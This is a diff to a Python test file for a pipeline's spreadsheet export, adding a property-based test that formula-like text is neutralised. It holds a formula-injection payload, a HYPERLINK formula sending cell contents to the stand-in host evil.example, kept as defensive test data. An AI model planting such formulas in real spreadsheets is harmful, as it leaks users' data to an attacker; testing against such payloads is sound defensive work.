@@ -8,9 +8,11 @@ import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from pipeline.cli import main
-from pipeline.export import export_tables, spreadsheet_safe
+from pipeline.export import FORMULA_START, cell, export_tables, spreadsheet_safe
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -27,6 +29,14 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 ])
 def test_formula_like_text_gets_a_leading_apostrophe(text, safe):
     assert spreadsheet_safe(text) == safe
+
+
+@given(st.one_of(st.text(), st.lists(st.text()), st.dictionaries(st.text(), st.text())))
+def test_no_text_cell_can_start_like_a_formula_and_plain_text_is_kept(value):
+    written = cell(value)
+    assert written is None or not written.startswith(FORMULA_START)
+    if isinstance(value, str) and written is not None:
+        assert written in (value, "'" + value)
 
 
 @pytest.fixture(scope="module")
